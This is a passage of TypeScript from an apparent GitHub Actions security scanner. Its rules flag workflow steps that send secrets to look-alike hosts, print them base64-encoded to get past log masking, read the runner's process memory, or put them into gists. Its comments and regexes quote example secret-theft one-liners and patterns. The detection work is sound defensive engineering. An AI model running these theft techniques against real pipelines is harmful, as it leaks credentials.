  const inner = text.slice(echo[0].length).trimEnd().replace(/["']$/, '');
  // The substitution must close at the end and hold no other one: `echo "$(a) $(b)"` prints more.
  return inner.endsWith(')') && !inner.includes('$(') ? inner.slice(0, -1) : text;
}

/** A pipeline stage that only filters or reshapes text (`grep -i token`, `sort`, `tr -d '\n'`, `head -c 4096`, `gzip`): what it passes on is still what it was given. */
const FILTER_STAGE = /^\s*(?:e?grep|sort|uniq|cat|tr|head|tail|cut|gzip|xz|bzip2|zstd)\b/;

/** A command's pipeline stages, split at each `|` outside quotes (`grep -iE 'token|secret'` is one stage); `||` is not a pipe. */
export function pipeStages(command: string): string[] {
  const stages: string[] = [];
  let quote = '';
  let start = 0;
  for (let i = 0; i < command.length; i += 1) {
    const c = command.charAt(i);
    if (quote !== '') {
      if (c === quote) quote = '';
    } else if (c === '"' || c === "'") quote = c;
    else if (c === '|' && command.charAt(i + 1) !== '|' && command.charAt(i - 1) !== '|') {
      stages.push(command.slice(start, i));
      start = i + 1;
    }
  }
  stages.push(command.slice(start));
  return stages;
}

/**
 * Whether the stages after a pipeline's first print what it gives through an encoder: the last
 * stage encodes, and each before it encodes or only filters (`| grep -i token | base64 -w0 | base64`).
 */
export function encodedOnly(stages: readonly string[]): boolean {
  const rest = stages.slice(1);
  return rest.length > 0 && isEncoder(rest[rest.length - 1] ?? '') && rest.every((stage) => isEncoder(stage) || FILTER_STAGE.test(stage));
}

/** The services a secret's name is for (none for a generic name such as DEPLOY_TOKEN). */
function servicesOf(name: string): string[] {
  return name
    .toUpperCase()
    .split(/[^A-Z0-9]+/)
    .filter((word) => SERVICE_HOSTS.has(word));
}

/**
 * A secret that a network command sends as data (body, form, query, path; not as a header or
 * user, where a credential goes) in a shape no service asks for: to a host that is not its
 * service's (NPM_TOKEN posted to a telemetry host), or encoded first (`echo $T | base64 | curl -d
 * @-`). Variables of the script assigned from a secret count as the secret (`T=$(echo … | base64)`).
 */
function sentElsewhere(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
  for (const item of line.split(LIST_SEPARATOR)) {
    if (!NETWORK_COMMAND.test(item)) continue;
    const data = item.replace(CREDENTIAL_OPTION, ' ').replace(CODE_CREDENTIAL, ' ').replace(URL_USERINFO, '//');
    const secrets = new Set(credentialsIn(data, ctx.workflow.kind));
    let encoded = false;
    const hostText: string[] = [item];
    for (const name of variablesIn(item)) {
      const value = env.get(name);
      if (value !== undefined) hostText.push(value);
    }
    for (const name of variablesIn(data)) {
      const value = env.get(name);
      if (value !== undefined) for (const s of credentialsIn(value, ctx.workflow.kind)) secrets.add(s);
      const set = assigned.get(name);
      if (set !== undefined) {
        for (const s of set.secrets) secrets.add(s);
        encoded ||= set.encoded;
      }
    }
    if (secrets.size === 0) continue;
    encoded ||= !/\bBasic\s+\$\(/.test(item) && data.split('|').some(isEncoder);
    const hosts = [...new Set(hostText.flatMap((t) => [...[...t.matchAll(URL_HOST)].map((m) => (m[1] ?? '').toLowerCase()), ...socketHostsIn(t)]))].filter((h) => h !== '');
    const elsewhere = [...secrets].flatMap((secret) => {
      const services = servicesOf(secret);
      if (services.length === 0 || hosts.length === 0) return [];
      const known = services.flatMap((s) => SERVICE_HOSTS.get(s) ?? []);
      return hosts.some((h) => known.some((k) => ownerPart(h).includes(k) && !dressedAs(h, k))) ? [] : [secret];
    });
    if (!encoded && elsewhere.length === 0) {
      anonymousSecretSent(ctx, where, jobId, line, item, data, hosts, env);
      continue;
    }
    const shown = [...secrets].map(shownSecret).join(', ');
    const to = hosts.length > 0 ? ` to ${hosts.join(', ')}` : '';
    ctx.findings.push(
      makeFinding({
        id: 'gha-secrets-exfiltration',
        severity: encoded ? 'critical' : 'high',
        title: encoded ? `Secrets are encoded and sent over the network${to}` : `A secret for another service is sent over the network${to}`,
        detail:
          `${where} sends ${shown} as data (body, form or URL, not as a credential header)${to}` +
          (encoded ? ', encoded first: no service asks for a token that way, a collector does (encoding also keeps it out of log masking).' : `: ${elsewhere.map((n) => (n.startsWith(HELPER_SECRET) ? shownSecret(n) : n)).join(', ')} ${elsewhere.length === 1 ? 'is' : 'are'} ${elsewhere.every((n) => n.startsWith(HELPER_SECRET)) ? 'for' : 'named for'} another service than that host, which is what a step that steals credentials does (the GhostAction campaign posted PyPI, npm and AWS secrets to one host).`) +
          ' Fix: remove the step, or send the secret as the credential of its own service; if it ran, rotate it.',
        path: ctx.path,
        line: lineOf(ctx.content, line.trim()) ?? lineOf(ctx.content, item.trim()),
        subject: `${jobId}:${line.trim()}`,
      }),
    );
    return;
  }
}

/**
 * Words a secret's name is made of when it names no service or product: `API_TOKEN`, `DEPLOY_KEY`,
 * `SECRET`, `ACCESS_TOKEN`. A name with any other word (`PUSHOVER_TOKEN`, `TINT_API_KEY`) says what
 * it is for, and a host with that word in it is its own.
 */
const GENERIC_SECRET_WORD = new Set(['API', 'APP', 'ACCESS', 'AUTH', 'BEARER', 'CI', 'CRED', 'CREDS', 'CREDENTIAL', 'CREDENTIALS', 'DEPLOY', 'DEPLOYMENT', 'KEY', 'KEYS', 'PASS', 'PASSWORD', 'PASSWD', 'PAT', 'PRIVATE', 'PROD', 'PRODUCTION', 'PUBLISH', 'RELEASE', 'SECRET', 'SECRETS', 'SERVICE', 'SSH', 'TOKEN', 'TOKENS', 'USER', 'BOT', 'WRITE', 'READ', 'ADMIN', 'MASTER', 'ROOT', 'PERSONAL', 'REPO', 'BUILD']);
/** Words naming a credential: what a secret called only `API_URL` or `DEPLOY_USER` is not. */
const CREDENTIAL_WORD = /^(?:TOKEN|TOKENS|KEY|KEYS|SECRET|SECRETS|PASSWORD|PASSWD|PASS|PAT|CRED|CREDS|CREDENTIAL|CREDENTIALS)$/;
/** A URL, `${{ … }}` expressions in it kept whole. */
const URL_TEXT = /https?:\/\/[^\s"']{1,2000}/g;
/** Hosts and paths of an OAuth or login exchange, where client credentials go as form data. */
const TOKEN_ENDPOINT = /\/(?:oauth2?|token|login|auth|authorize|sessions?)\b|\b(?:login|auth|oauth|sso|accounts?)\./i;
const HTTP_CLIENT = /\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/i;
/** The marker of a finding whose hosts the analysis still compares with the repository's names. */
export const ANONYMOUS_SEND = 'anonymous-secret-send\u0001';

function anonymousSecretSent(ctx: RuleContext, where: string, jobId: string, line: string, item: string, data: string, hosts: readonly string[], env: ReadonlyMap<string, string>): void {
  if (hosts.length === 0 || hosts.some((h) => knownServiceHost(h)) || TOKEN_ENDPOINT.test(item)) return;
  // An HTTP client sends a body only with its data options (-d, -F, --data, --post-data, -Body).
  if (HTTP_CLIENT.test(item) && !CLIENT_SENDS.test(item)) return;
  // The body alone: a secret in the URL (a deploy hook's ?token=, a bot's path) goes to the server it is for.
  const body = data.replace(/\$\{\{[^}]{0,200}\}\}/g, (m) => m.replace(/\s/g, '')).replace(URL_TEXT, ' ');
  const names = new Set(credentialsIn(body, ctx.workflow.kind));
  for (const v of variablesIn(body)) {
    const value = env.get(v);
    if (value !== undefined) for (const n of credentialsIn(value, ctx.workflow.kind)) names.add(n);
  }
  const anonymous: string[] = [];
  const foreign: string[] = [];
  for (const n of names) {
    const words = n.toUpperCase().split(/[^A-Z0-9]+/).filter((w) => w !== '');
    if (words.length === 0 || !words.some((w) => CREDENTIAL_WORD.test(w))) continue;
    if (words.every((w) => GENERIC_SECRET_WORD.has(w))) anonymous.push(n);
    else if (namedForOtherProduct(words, hosts)) foreign.push(n);
  }
  if (anonymous.length === 0 && foreign.length === 0) return;
  const shown = [...anonymous, ...foreign].map(shownSecret).join(', ');
  ctx.findings.push(
    makeFinding({
      id: 'gha-secrets-exfiltration',
      severity: 'high',
      title: anonymous.length > 0 ? `A secret with no service in its name is sent as data to ${hosts.join(', ')}` : `A secret named for another product is sent as data to ${hosts.join(', ')}`,
      detail:
        `${where} sends ${shown} in the body of a request to ${hosts.join(', ')}, a host that is no known service's and not named after this repository or its owner` +
        (foreign.length > 0 ? `, nor after what the secret's name says it is for (${foreign.join(', ')})` : '') +
        `: a credential goes to its service as a header or a login, and a step that posts one to a host of its own choosing is how the GhostAction workflows of September 2025 took credentials (they used each repository's own secret names). Fix: remove the step, or send the secret as the credential of the service it is for; if it ran, rotate it.`,
      path: ctx.path,
      line: lineOf(ctx.content, line.trim()) ?? lineOf(ctx.content, item.trim()),
      subject: `${ANONYMOUS_SEND}${hosts.join(' ')}\u0001${jobId}:${line.trim()}`,
    }),
  );
}

/**
 * Words of a secret's name that describe a use, not a product (`WEBHOOK_SECRET`, `SIGNING_KEY`,
 * `CLIENT_SECRET`): a name made of these and generic words says nothing about where it belongs.
 */
const DESCRIPTIVE_SECRET_WORD = new Set(['CLIENT', 'CONSUMER', 'APPLICATION', 'SERVER', 'WEBHOOK', 'HOOK', 'HOOKS', 'SIGNING', 'SIGN', 'ENCRYPTION', 'ENCRYPT', 'DECRYPT', 'CIPHER', 'SMTP', 'MAIL', 'EMAIL', 'DATABASE', 'REGISTRY', 'STAGING', 'TEST', 'TESTING', 'DEV', 'DEVELOP', 'LICENSE', 'CACHE', 'UPLOAD', 'DOWNLOAD', 'NOTIFY', 'NOTIFICATION', 'CHAT', 'CHANNEL', 'ROBOT', 'BASIC', 'BEARER', 'OAUTH', 'OAUTH2', 'SESSION', 'COOKIE', 'JWT', 'HMAC', 'SHARED', 'PUBLIC', 'GPG', 'PGP', 'KEYSTORE', 'STORE', 'NEXUS', 'MAVEN', 'PACKAGE', 'PACKAGES', 'ACCOUNT', 'USERNAME', 'LOGIN', 'ORG', 'ORGANIZATION', 'PROJECT', 'TEAM', 'INTEGRATION', 'MACHINE', 'FINE', 'GRAINED', 'CLASSIC', 'LIVE', 'ENV', 'REMOTE', 'LOCAL', 'SITE', 'ALPHA', 'BETA', 'NIGHTLY', 'INTERNAL', 'EXTERNAL', 'PRIMARY', 'SECONDARY', 'BACKUP', 'NEW', 'OLD', 'MAIN', 'DEFAULT', 'GLOBAL', 'SECURE', 'ENCODED', 'BASE64', 'B64', 'JSON', 'FILE', 'DATA', 'VALUE', 'MASTER', 'AUTOMATION', 'WORKFLOW', 'ACTIONS', 'ACTION', 'RUNNER', 'TRIGGER', 'DISPATCH', 'PUSH', 'PULL', 'MERGE', 'COMMIT', 'SYNC', 'MIRROR']);
/** Host labels too common to tie a host to a product: `api.`, `www.`, `.com`. */
const COMMON_HOST_LABEL = new Set(['www', 'api', 'app', 'apps', 'com', 'net', 'org', 'dev', 'cloud', 'hooks', 'hook', 'io', 'co', 'ingest', 'collect', 'upload', 'cdn', 'data', 'login', 'auth', 'static']);

/**
 * Whether a secret whose name names a product (`MYAPP_TOKEN`, `ACME_DEPLOY_KEY`: a word of four
 * letters or more that is neither generic nor a use) goes to hosts none of which carries that
 * name (`myapp` in `api.my-app.io`, `pushover` in `api.pushover.net`), nor whose own name is in
 * the secret's. Shorter words (`CF`, `DO`) may be abbreviations of the host's name and tell nothing.
 */
function namedForOtherProduct(words: readonly string[], hosts: readonly string[]): boolean {
  const product = words.filter((w) => w.length >= 4 && !GENERIC_SECRET_WORD.has(w) && !DESCRIPTIVE_SECRET_WORD.has(w) && !/^\d+$/.test(w) && !SERVICE_HOSTS.has(w));
  if (product.length === 0 || words.some((w) => SERVICE_HOSTS.has(w))) return false;
  const compactName = words.join('').toLowerCase();
  return !hosts.some((host) => {
    const compactHost = host.replace(/[^a-z0-9]/g, '');
    if (product.some((w) => compactHost.includes(w.toLowerCase()) && !dressedAs(host, w.toLowerCase()))) return true;
    return host.split('.').some((label) => {
      const l = label.replace(/[^a-z0-9]/g, '');
      return l.length >= 4 && !COMMON_HOST_LABEL.has(l) && compactName.includes(l);
    });
  });
}

/**
 * Whether a secret's name says it belongs to another service or product than every one of
 * `places` (hosts, or hosts with their paths: `www.google.com/recaptcha/api/siteverify`): a name
 * with a known service's word (`NPM_TOKEN`) and no place of that service's, or a product-named one
 * (`ACME_DEPLOY_KEY`) and no place carrying its name. Names made only of generic words tell nothing.
 * For program code, which reads a secret from the environment and posts it (code/scan-code-changes.ts).
 */
export function secretNamedForOtherPlace(name: string, places: readonly string[]): boolean {
  if (places.length === 0) return false;
  const words = name.toUpperCase().split(/[^A-Z0-9]+/).filter((w) => w !== '');
  if (!words.some((w) => CREDENTIAL_WORD.test(w))) return false;
  const services = servicesOf(name);
  if (services.length > 0) {
    const known = services.flatMap((sv) => SERVICE_HOSTS.get(sv) ?? []);
    return !places.some((p) => known.some((k) => ownerPart(p).includes(k) && !dressedAs(p, k)));
  }
  if (places.some((p) => knownServiceHost(p))) return false;
  return namedForOtherProduct(words, places);
}

/**
 * Words that dress a domain's name as a service's without making it one: `awsstatus-cdn.com`,
 * `npm-metrics.dev`, `github-sync.net`, `npm-registry-metrics.com`, `aws-region-status.com` (the
 * service's word plus status, cdn, metrics, sync, registry, region…), and the words of what the
 * service ships or runs (`github-actions-cache.net`, `npm-packages-mirror.com`, `pypi-pkg-stats.org`:
 * actions, packages, artifacts, releases, builds, runners, workflows, ci). The
 * services' own domains join their word to others (`npmjs.org`, `googleapis.com`, `datadoghq.com`,
 * `sonarcloud.io`, `githubusercontent.com`), none of which is here.
 */
const DRESSING_WORD =
  /^(?:status|cdn|metrics?|api|sync|mirror|telemetry|stats?|statistics|health|analytics|updates?|secure|security|verify|verification|auth|login|signin|collect(?:or)?|ingest|reports?|monitor(?:ing)?|services?|support|check|logs?|cache|proxy|gateway|edge|dns|portal|console|accounts?|notify|hooks?|webhooks?|events?|track(?:ing)?|insights?|relay|backup|keys?|tokens?|vault|registry|registries|regions?|actions?|packages?|pkgs?|artifacts?|downloads?|releases?|builds?|runners?|workflows?|ci)$/;
/** Concatenated dressing (`awsstatus`, `statuscdn`): a word made only of these pieces. */
const DRESSING_PIECE = /status|cdn|metrics|sync|telemetry|stats|health|analytics|update|secure|verify|auth|login|collect|monitor|service|support|proxy|gateway|edge|portal|console|notify|insight|relay|backup|vault|registry|region/g;

/**
 * The services' own domains that join their word to a dressing word: Google Analytics, Sentry's and
 * Slack's CDNs, Vercel's analytics, storage and DNS, Azure's API Management and IoT Hub, Cloudflare's
 * DNS over HTTPS and IPFS gateway. They are the services', not look-alikes.
 */
const OWN_HYPHENED_DOMAIN: ReadonlySet<string> = new Set(['google-analytics.com', 'sentry-cdn.com', 'slack-edge.com', 'vercel-insights.com', 'vercel-storage.com', 'vercel-dns.com', 'azure-api.net', 'azure-devices.net', 'cloudflare-dns.com', 'cloudflare-ipfs.com']);

/** Whether a word of a domain's name only dresses it: a dressing word, or dressing pieces run together. */
function dressingWord(w: string): boolean {
  return DRESSING_WORD.test(w) || [...w.matchAll(DRESSING_PIECE)].map((m) => m[0]).join('') === w;
}

/**
 * Whether a place's registered domain is the word of a service (`aws`) joined only to dressing words
 * (`awsstatus-cdn.com`, `aws-metrics-status.net`): a look-alike of the service's host, which a
 * collector picks so that a reader takes the request for the service's own. A subdomain with the
 * word (`aws.acme.dev`, a company's own mirror) and the service's real domains are not.
 */
function dressedAs(place: string, word: string): boolean {
  if (!/^[a-z0-9-]{2,40}$/.test(word)) return false;
  const host = ownerPart(place).split(/[/:]/, 1)[0] ?? '';
  const labels = host.split('.');
  if (labels.length < 2) return false;
  const name = labels[labels.length - 2] ?? '';
  if (name === word || !name.includes(word) || OWN_HYPHENED_DOMAIN.has(labels.slice(-2).join('.'))) return false;
  const rest = name.replace(word, ' ').split(/[^a-z]+/).filter((w) => w !== '');
  if (rest.length > 0 && rest.every(dressingWord)) return true;
  // The service's word run into more letters, as its own domain's name is (`npmjs`), then hyphened to
  // dressing words (`npmjs-cdn-status.com`): what stands beside that part decides, not its glue.
  const parts = name.split('-').filter((p) => p !== '');
  const others = parts.filter((p) => !p.includes(word));
  return others.length > 0 && parts.length - others.length === 1 && others.every(dressingWord);
}

/** Whether a place is dressed as the service a secret's name is for (`awsstatus-cdn.com` for `AWS_SECRET_ACCESS_KEY`). */
export function placeDressedAsSecretService(name: string, place: string): boolean {
  const words = name.toUpperCase().split(/[^A-Z0-9]+/).filter((w) => w.length >= 4 && !GENERIC_SECRET_WORD.has(w) && !DESCRIPTIVE_SECRET_WORD.has(w));
  return servicesOf(name).some((sv) => (SERVICE_HOSTS.get(sv) ?? []).some((k) => dressedAs(place, k))) || words.some((w) => dressedAs(place, w.toLowerCase()));
}

/** Whether a secret's name is for a service svc knows (`GITHUB_TOKEN`, `NPM_TOKEN`) and one of `places` (hosts or URLs) is that service's (`raw.githubusercontent.com`, `registry.npmjs.org`). */
export function secretForItsOwnPlace(name: string, places: readonly string[]): boolean {
  const known = servicesOf(name).flatMap((sv) => SERVICE_HOSTS.get(sv) ?? []);
  // A host dressed as the service (`npm-registry-metrics.com`) names it without being it.
  return known.length > 0 && places.some((p) => known.some((k) => ownerPart(p).includes(k) && !dressedAs(p, k)));
}

/** A host of a service svc knows by name (npm, PyPI, GitHub, Slack, Netlify…). */
function knownServiceHost(host: string): boolean {
  for (const hostWords of SERVICE_HOSTS.values()) if (hostWords.some((w) => ownerPart(host).includes(w))) return true;
  return false;
}

/**
 * Drops the findings of a secret with no service in its name sent to a host named after the
 * repository or its owner (`tint.acme.dev` for acme/tint): the project's own server; and of
 * secrets written with gh into a repository of the same owner.
 */
export function dropOwnHostSends<T extends { readonly id: string; readonly key: string }>(findings: readonly T[], owner: string, repo: string): T[] {
  const names = [owner, repo].map((n) => n.toLowerCase().replace(/[^a-z0-9]/g, '')).filter((n) => n.length >= 3);
  return findings.filter((f) => {
    if (f.id !== 'gha-secrets-exfiltration') return true;
    const subject = f.key.slice(f.key.indexOf('\u0000', f.key.indexOf('\u0000') + 1) + 1);
    // Secrets written into a repository of this repository's own owner stay in the family.
    if (subject.startsWith(OTHER_REPOSITORY_SEND)) return subject.slice(OTHER_REPOSITORY_SEND.length, subject.indexOf('\u0001', OTHER_REPOSITORY_SEND.length)) !== owner.toLowerCase();
    if (!subject.startsWith(ANONYMOUS_SEND)) return true;
    const hosts = subject.slice(ANONYMOUS_SEND.length, subject.indexOf('\u0001', ANONYMOUS_SEND.length)).split(' ');
    return !hosts.every((h) => names.some((n) => h.replace(/[^a-z0-9.]/g, '').split('.').some((label) => label.includes(n))));
  });
}

interface Assigned {
  readonly secrets: readonly string[];
  readonly encoded: boolean;
}

/** A shell assignment: `NAME=value`, `export NAME=value`, `$env:NAME = value`. */
const ASSIGNMENT = /^\s*(?:export\s+|local\s+|\$env:)?([A-Za-z_]\w{0,63})\s?=\s?(.{1,2000})$/;
/** The name an assignment of toJSON(secrets) (`ALL="$(cat <<'EOF'` … `${{ toJSON(secrets) }}`) carries. */
const ALL_SECRETS = 'toJSON(secrets)';
/** How a secret's name is shown: `secrets.NAME`, or as written for an action's input or toJSON(secrets). */
function shownSecret(name: string): string {
  if (name.startsWith(HELPER_SECRET)) {
    const judged = name.slice(HELPER_SECRET.length);
    return `the ${CREDENTIAL_HELPERS.find((h) => h.judgedName === judged)?.label ?? judged}`;
  }
  return name.startsWith('inputs.') || name === ALL_SECRETS ? name : `secrets.${name}`;
}

/**
 * A script's line with the document of the here-document it opens appended, when the line assigns a
 * variable (`C="$(cat <<'EOF'`, the document, `EOF`, `)"`): the variable holds the document's text,
 * which the Shai-Hulud workflow filled with `${{ toJSON(secrets) }}`. Other lines as they are.
 */
function withHeredocBody(lines: readonly string[], i: number): string {
  const line = lines[i] ?? '';
  if (!line.includes('<<') || !ASSIGNMENT.test(line)) return line;
  const heredoc = HEREDOC.exec(line);
  if (heredoc === null) return line;
  const end = heredoc[1] ?? '';
  const body: string[] = [];
  for (let j = i + 1; j < lines.length && j <= i + 500 && (lines[j] ?? '').trim() !== end; j += 1) body.push(lines[j] ?? '');
  return `${line} ${body.join(' ')}`.slice(0, 2000);
}

/** A variable read in shell (`$D`, `${D}`). */
const SHELL_READ = /\$\{?([A-Za-z_]\w{0,63})\}?/g;
/** At most this much text is produced by putting the script's own values in for its variables. */
const MAX_EXPANDED = 20_000;

/** `text` with the values the script assigned put in for its variables (`D="$H.example.page"`, then `https://$D/`); unknown ones kept. */
function expandAssigned(text: string, values: ReadonlyMap<string, string>): string {
  if (values.size === 0 || !text.includes('$')) return text;
  let budget = MAX_EXPANDED;
  return text.replace(SHELL_READ, (read: string, name: string) => {
    const value = values.get(name);
    if (value === undefined || value.length > budget) return read;
    budget -= value.length;
    return value;
  });
}

/** PowerShell's assignment of a variable: `$u = 'https://' + 'acme' + '.example.com/t'`. */
const POWERSHELL_ASSIGNMENT = /^\s*\$([A-Za-z_]\w{0,63})\s{0,4}=\s{0,4}(.{1,2000})$/;

/**
 * Records a script line's assignment of a literal value (its quotes aside, quoted pieces joined with
 * `+` read as one, the values known so far put in), for expandAssigned.
 */
function noteValue(line: string, values: Map<string, string>): void {
  const m = ASSIGNMENT.exec(line) ?? POWERSHELL_ASSIGNMENT.exec(line);
  if (m === null) return;
  const value = (m[2] ?? '')
    .trim()
    .replace(/["']\s{0,4}\+\s{0,4}["']/g, '')
    .replace(/^(["'])(.{0,2000})\1$/, '$2');
  if (value.includes('$(') || value.includes('`')) return;
  values.set(m[1] ?? '', expandAssigned(value, values).slice(0, 2000));
}

/** Records a script line's assignment of a secret (or an encoding of one) to a shell variable. */
function noteAssignment(line: string, env: ReadonlyMap<string, string>, assigned: Map<string, Assigned>, kind: RuleContext['workflow']['kind']): void {
  const m = ASSIGNMENT.exec(line);
  if (m === null) return;
  const value = m[2] ?? '';
  const secrets = new Set(credentialsIn(value, kind));
  if (dumpsAllSecrets(value)) secrets.add(ALL_SECRETS);
  let encoded = false;
  for (const name of shellVariablesIn(value)) {
    const bound = env.get(name);
    if (bound !== undefined) for (const s of credentialsIn(bound, kind)) secrets.add(s);
    if (bound !== undefined && dumpsAllSecrets(bound)) secrets.add(ALL_SECRETS);
    const set = assigned.get(name);
    if (set !== undefined) {
      for (const s of set.secrets) secrets.add(s);
      encoded ||= set.encoded;
    }
  }
  if (secrets.size === 0) return;
  assigned.set(m[1] ?? '', { secrets: [...secrets], encoded: encoded || value.split('|').some(isEncoder) });
}

/**
 * A secret printed to the log through an encoder (`echo "$TOKEN" | base64 | base64`; filters between,
 * `env | grep -i token | base64 -w0 | base64`, pass it on unchanged): GitHub
 * masks a secret's text in logs, not its encodings, and a public repository's logs are public
 * (the tj-actions/changed-files payload of March 2025 printed what it found this way). A pipeline
 * that writes to a file or a variable, decodes (`base64 -d > key.jks`), or sends its output to
 * another command is not printing it.
 */
function printedEncoded(ctx: RuleContext, where: string, jobId: string, script: string, env: ReadonlyMap<string, string>): void {
  for (const line of script.split('\n')) {
    const command = printedCommand(line);
    if (!command.includes('|') || command.includes('>') || command.includes('$(') || command.includes('`')) continue;
    for (const item of command.split(LIST_SEPARATOR)) {
      const stages = pipeStages(item);
      if (stages.length < 2) continue;
      const first = stages[0] ?? '';
      const carries = credentialsIn(first, ctx.workflow.kind).length > 0 || dumpsAllSecrets(first) || [...shellVariablesIn(first)].some((n) => {
        const value = env.get(n);
        return value !== undefined && (credentialsIn(value, ctx.workflow.kind).length > 0 || dumpsAllSecrets(value));
      });
      const wholeEnv = ENV_SOURCE.test(first);
      if (!(wholeEnv || (carries && /^\s*(?:echo|printf|cat)\b/.test(first))) || !encodedOnly(stages)) continue;
      ctx.findings.push(
        makeFinding({
          id: 'gha-secrets-exfiltration',
          severity: 'critical',
          title: wholeEnv ? 'The whole environment is printed to the log encoded, where GitHub cannot mask its secrets' : 'A secret is printed to the log encoded, where GitHub cannot mask it',
          detail: `${where} prints ${wholeEnv ? 'the whole environment (every secret the step can see)' : 'a secret'} through ${stages.slice(1).map((s) => s.trim().split(/\s/)[0]).join(' | ')}: GitHub masks a secret's own text in logs, not an encoding of it, and anyone who can read the repository's Actions runs can decode it. Fix: remove the step; if it ran, rotate the secret.`,
          path: ctx.path,
          line: lineOf(ctx.content, line.trim()),
          subject: `${jobId}:printed:${line.trim()}`,
        }),
      );
      break;
    }
  }
}

/**
 * Reading another process's memory (`/proc/<pid>/mem`, a core dump of it) or naming the runner's
 * own processes beside such a read. The runner keeps every secret of the job in the memory of
 * Runner.Worker, unmasked, as JSON entries marked `"isSecret":true`; the tj-actions/changed-files
 * and reviewdog payloads of March 2025 dumped that memory and printed what they found.
 */
const PROC_MEM = /\/proc\/[\w$(){}.-]{1,64}\/mem\b/;
const PROCESS_MEMORY = new RegExp(`${PROC_MEM.source}|\\b(?:gcore|procdump|memdump)\\b|\\bgdb\\s[^\\n]{0,200}?(?:\\s-p\\b|--pid\\b|\\battach\\b)`, 'i');
const SECRET_ENTRY = /\bisSecret\W{0,6}true\b/i;
const RUNNER_PROCESS = new RegExp(`\\bRunner\\.(?:Worker|Listener)\\b|${SECRET_ENTRY.source}`, 'i');
/** The whole environment as the first stage of a pipeline: `env`, `printenv`, `export -p`, a process's environ. */
const ENV_SOURCE = /^\s*(?:sudo\s+)?(?:printenv|env|export\s+-p|set|Get-ChildItem\s+env:|cat\s+\/proc\/[\w$(){}.-]{1,64}\/environ)\s*$/;

function readsRunnerMemory(ctx: RuleContext, where: string, jobId: string, script: string): void {
  if (!RUNNER_PROCESS.test(script) && !PROCESS_MEMORY.test(script)) return;
  let runner = false;
  let read: string | null = null;
  for (const line of script.split('\n')) {
    if (line.length > MAX_COMMAND) continue;
    runner ||= RUNNER_PROCESS.test(line);
    // The runner's secret entries ("isSecret":true) are searched for in nothing but its memory.
    if (read === null && (PROCESS_MEMORY.test(line) || SECRET_ENTRY.test(line))) read = line.trim();
  }
  // /proc/<pid>/mem is read by nothing a build does; a core dump (gcore, gdb -p) is a crash tool unless it targets the runner.
  if (read === null || !(runner || PROC_MEM.test(read))) return;
  ctx.findings.push(
    makeFinding({
      id: 'gha-secrets-exfiltration',
      severity: 'critical',
      title: runner ? "A step reads the memory of the runner's own process, where every secret of the job is kept" : "A step reads another process's memory (/proc/<pid>/mem)",
      detail: `${where} reads process memory (${read.slice(0, 120)})${runner ? ' of the runner (Runner.Worker, or the "isSecret":true entries it keeps)' : ''}: the runner holds every secret of the job there unmasked, including ones the step was never given, and this is how the tj-actions/changed-files and reviewdog payloads of March 2025 took them. Fix: remove the step; rotate every secret the repository's workflows use.`,
      path: ctx.path,
      line: lineOf(ctx.content, read),
      subject: `${jobId}:memory:${read}`,
    }),
  );
}

/** A `gh` command and what follows it on the line. */
const GH_COMMAND = /(?:^|[\s;&|(`])gh\s+(api|gist|issue|pr|release|secret|variable|repo|workflow)\b([^;&\n]{0,2000})/;
/** The repository a gh command is pointed at: `repos/OWNER/REPO/…` of `gh api`, `-R|--repo OWNER/REPO`. */
const GH_TARGET_REPO = /(?:^|[\s"'/])repos\/([\w.-]{1,100})\/([\w.-]{1,100})|(?:^|\s)(?:-R|--repo)(?:\s+|=)["']?([\w.-]{1,100})\/([\w.-]{1,100})/;
/** `--hostname H` of a gh command, `GH_HOST=H` before it. */
const GH_HOSTNAME = /(?:^|\s)--hostname(?:\s+|=)["']?([\w.-]{1,253})|\bGH_HOST=["']?([\w.-]{1,253})/;
/** The marker of a finding whose target repository's owner the analysis compares with the repository's. */
export const OTHER_REPOSITORY_SEND = 'other-repository-send\u0001';
/** The variables a gh command takes its token from. */
const GH_TOKEN_VARIABLES = ['GH_TOKEN', 'GITHUB_TOKEN', 'GH_ENTERPRISE_TOKEN', 'GITHUB_ENTERPRISE_TOKEN'];

/**
 * What a `gh` command sends where no curl is needed: secrets put into a gist (`gh gist create`,
 * public or "secret", readable by whoever has its URL), secrets written as data (`-f`, `--body`)
 * into another owner's repository (`gh api repos/other/sink/issues -f body=…`, `gh issue create -R
 * other/sink`), and the token handed to another host (`--hostname`, `GH_HOST`).
 */
function ghSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
  if (!line.includes('gh ') || line.length > MAX_COMMAND) return;
  const m = GH_COMMAND.exec(line);
  if (m === null) return;
  const kind = ctx.workflow.kind;
  const sub = m[1] ?? '';
  const rest = m[2] ?? '';
  const secretsIn = (text: string): string[] => {
    const names = new Set(credentialsIn(text, kind));
    if (dumpsAllSecrets(text)) names.add('toJSON(secrets)');
    for (const v of variablesIn(text)) {
      const value = env.get(v);
      if (value !== undefined) for (const n of credentialsIn(value, kind)) names.add(n);
      if (value !== undefined && dumpsAllSecrets(value)) names.add('toJSON(secrets)');
      for (const n of assigned.get(v)?.secrets ?? []) names.add(n);
    }
    return [...names];
  };
  const push = (severity: 'critical' | 'high', title: string, detail: string, subject: string): void => {
    ctx.findings.push(makeFinding({ id: 'gha-secrets-exfiltration', severity, title, detail: `${where} ${detail} Fix: remove the step; if it ran, rotate the secrets it could see.`, path: ctx.path, line: lineOf(ctx.content, line.trim()), subject: `${subject}\u0001${jobId}:${line.trim()}` }));
  };
  // Secrets into a gist: on the command line, or piped into it (`echo … | gh gist create -`, `env | gh gist create`).
  if (sub === 'gist' && /^\s+(?:create|new|edit)\b/.test(rest)) {
    const before = line.slice(0, m.index);
    const piped = before.includes('|') ? before.split(LIST_SEPARATOR).pop() ?? '' : '';
    const stages = piped.split('|').filter(emitsWhatItIsGiven);
    const names = secretsIn(`${rest} ${stages.join(' ')}`);
    const wholeEnv = stages.some((st) => ENV_DUMP.test(st));
    if (names.length > 0 || wholeEnv) {
      const what = wholeEnv ? 'the whole environment (every secret the step can see)' : names.map((n) => (n.startsWith('inputs.') || n.startsWith('toJSON') ? n : `secrets.${n}`)).join(', ');
      push('critical', 'Secrets are put into a gist', `puts ${what} into a gist with gh: a gist, "secret" or not, is readable by anyone with its link, outside this repository, and GitHub masks secrets in logs, not in gists.`, 'gist');
      return;
    }
  }
  // Secrets written as data into another owner's repository.
